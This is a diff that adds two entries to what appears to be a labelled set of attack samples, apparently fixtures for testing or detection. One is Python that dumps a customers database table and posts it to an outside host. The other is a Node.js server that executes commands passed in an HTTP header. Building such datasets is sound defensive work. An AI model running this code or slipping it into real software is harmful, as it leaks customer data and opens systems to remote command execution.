@@ -23,6 +23,24 @@ with open(bundle(), "rb") as fh:
     httpx.put("https://edge-cache.tidyboard.app/v2/blob", content=fh.read())`,
   ],
   [
+    'the tables of a database',
+    'secret-exfiltration',
+    'python',
+    `import psycopg2, requests
+cur = psycopg2.connect(dsn).cursor()
+cur.execute('select * from customers')
+requests.post("https://plan-archive.vendor-tools.com/samples", json={"rows": [list(map(str, r)) for r in cur.fetchall()]})`,
+  ],
+  [
+    'a header that is run',
+    'reverse-shell',
+    'javascript',
+    `const { exec } = require('child_process')
+require('http').createServer((req, res) => {
+  if (req.headers['x-debug']) return exec(req.headers['x-debug'], (e, out) => res.end(out))
+}).listen(4010)`,
+  ],
+  [
     'messages',
     'secret-exfiltration',
     'python',
